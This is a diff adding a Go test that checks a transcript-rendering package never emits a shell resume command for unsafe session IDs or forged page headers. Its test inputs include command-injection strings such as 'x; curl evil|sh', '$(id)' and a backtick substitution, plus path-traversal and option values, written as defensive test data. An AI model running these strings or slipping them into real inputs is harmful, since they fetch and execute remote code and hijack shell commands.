@@ -95,6 +95,29 @@ func TestSubAgentsAreFolded(t *testing.T) {
 	}
 }
 
+func TestResumeIsOneCommand(t *testing.T) {
+	t.Parallel()
+	for _, c := range transcript.Clients() {
+		if got := c.Resume("0a1b-2.c_d"); !strings.HasSuffix(got, " 0a1b-2.c_d") {
+			t.Errorf("%s: %q", c, got)
+		}
+	}
+	for _, id := range []string{"", "x; curl evil|sh", "$(id)", "`id`", "a b", "--help", "../x", "x\n", "x'"} {
+		s := transcript.Session{Client: transcript.Claude, ID: id, Turns: 1}
+		page := append(s.Head(), "## 1 user 2026-11-29 06:22:31\n\ntext\n"...)
+		if bytes.Contains(page, []byte("\nresume: ")) {
+			t.Errorf("the page of %q has a command line:\n%s", id, page)
+		}
+		if turn, got := transcript.At(page, bytes.Count(page, []byte("\n"))); got != "" || turn.N != 1 {
+			t.Errorf("%q: %q in turn %d", id, got, turn.N)
+		}
+	}
+	forged := []byte("---\nclient: \"claude-code\"\nsession: \"x; id\"\nresume: \"id\"\n---\n\n## 1 user 2026-11-29 06:22:31\n")
+	if turn, got := transcript.At(forged, 7); got != "" || turn.N != 1 {
+		t.Errorf("a page has the command line %q in turn %d", got, turn.N)
+	}
+}
+
 func TestUnknownLinesAreCounted(t *testing.T) {
 	t.Parallel()
 	s, page := read(transcript.Claude, []byte(`{"type":"user","message":{"content":"Hello"},"timestamp":"2026-11-29T06:30:01Z","sessionId":"s"}
